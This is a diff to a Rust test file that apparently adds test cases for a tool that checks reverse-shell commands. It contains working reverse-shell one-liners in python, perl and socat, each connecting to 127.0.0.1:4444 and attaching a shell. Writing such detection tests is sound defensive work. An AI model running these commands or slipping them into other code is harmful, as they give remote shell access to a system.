@@ -102,6 +102,14 @@ fn python_with_pipes() -> Result<()> {
 }
 
 #[test]
+fn python_with_a_terminal() -> Result<()> {
+    let command = "python3 -c 'import socket,os,pty\n\
+                   s=socket.create_connection((\"127.0.0.1\",4444))\n\
+                   for f in (0,1,2): os.dup2(s.fileno(),f)\npty.spawn(\"/bin/sh\")'";
+    check("python_with_a_terminal", command)
+}
+
+#[test]
 fn perl() -> Result<()> {
     let command = "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\
                    connect(S,sockaddr_in(4444,inet_aton(\"127.0.0.1\")));open(STDIN,\">&S\");\
@@ -120,6 +128,12 @@ fn socat_with_pipes() -> Result<()> {
         "socat_with_pipes",
         "socat TCP:127.0.0.1:4444 EXEC:/bin/sh,pipes",
     )
+}
+
+#[test]
+fn socat_with_a_terminal() -> Result<()> {
+    let command = "socat TCP:127.0.0.1:4444 EXEC:'bash -li',pty,stderr,setsid,sigint,sane";
+    check("socat_with_a_terminal", command)
 }
 
 #[test]
